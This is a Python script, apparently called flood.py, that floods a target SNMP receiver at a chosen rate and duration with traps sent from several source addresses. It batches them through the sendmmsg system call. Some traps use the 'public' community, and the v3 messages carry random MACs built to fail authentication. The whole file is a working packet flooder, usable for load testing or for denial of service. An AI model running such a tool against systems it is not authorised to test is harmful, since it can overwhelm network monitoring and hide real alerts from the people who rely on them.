"""Offers forged traps at an even pace from several sources, many with one system call (sendmmsg), and prints how many the
kernel took from us: flood.py TARGET-IP PORT SECONDS RATE SOURCE=KIND…
KIND: v2c (the device's community), or v3:ENGINE:BOOTS:TIME:USER, a message with everything right but its MAC, which is
another in each."""
import ctypes
import os
import socket
import sys
import time

BATCH = 100
target = (sys.argv[1], int(sys.argv[2]))
seconds, rate = float(sys.argv[3]), int(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Head(ctypes.Structure):  # struct msghdr
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("parts", ctypes.POINTER(Part)),
                ("part_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
                ("flags", ctypes.c_int)]


class Message(ctypes.Structure):  # struct mmsghdr
    _fields_ = [("head", Head), ("sent", ctypes.c_uint)]


def tlv(tag, *parts):
    body = b"".join(parts)
    size = len(body)
    if size < 128:
        return bytes([tag, size]) + body
    return bytes([tag, 0x82, size >> 8, size & 255]) + body


def number(value):
    return tlv(2, value.to_bytes(value.bit_length() // 8 + 1, "big"))


UP = tlv(0x30, bytes.fromhex("06082b06010201010300430101"))
LINK_DOWN = tlv(0x30, bytes.fromhex("060a2b060106030101040100"), bytes.fromhex("06092b0601060301010503"))
PDU = tlv(0xA7, number(7), number(0), number(0), tlv(0x30, UP, LINK_DOWN))


def v2c():
    return tlv(0x30, number(1), tlv(4, b"public"), PDU)


def v3(engine, boots, time_of, user):
    security = tlv(0x30, tlv(4, bytes.fromhex(engine)), number(int(boots)), number(int(time_of)), tlv(4, user.encode()),
                   tlv(4, os.urandom(24)), tlv(4, os.urandom(8)))
    header = tlv(0x30, number(int.from_bytes(os.urandom(3), "big")), number(65507), tlv(4, b"\x03"), number(3))
    return tlv(0x30, number(3), header, tlv(4, security), tlv(4, os.urandom(90)))


class Sender:
    """A socket with a batch of messages that is ready to go."""

    def __init__(self, source, kind):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((source, 0))
        self.socket.connect(target)
        word, *rest = kind.split(":")
        texts = [v2c() if word == "v2c" else v3(*rest) for _ in range(BATCH)]
        self.rooms = [ctypes.create_string_buffer(text, len(text)) for text in texts]
        self.parts = (Part * BATCH)(*[Part(ctypes.addressof(room), len(room)) for room in self.rooms])
        self.batch = (Message * BATCH)()
        for message, part in zip(self.batch, self.parts):
            message.head.parts, message.head.part_count = ctypes.pointer(part), 1

    def send(self):
        return max(0, libc.sendmmsg(self.socket.fileno(), self.batch, BATCH, 0))


senders = [Sender(*each.split("=", 1)) for each in sys.argv[5:]]
begin, sent, turn = time.monotonic(), 0, 0
while (passed := time.monotonic() - begin) < seconds:
    if sent + BATCH > passed * rate:
        time.sleep(0.0005)
        continue
    sent += senders[turn % len(senders)].send()
    turn += 1
# What a busy machine has left behind is offered still, as fast as it goes.
while sent < seconds * rate and time.monotonic() - begin < 2 * seconds:
    sent += senders[turn % len(senders)].send()
    turn += 1
print(sent, f"{time.monotonic() - begin:.2f}")
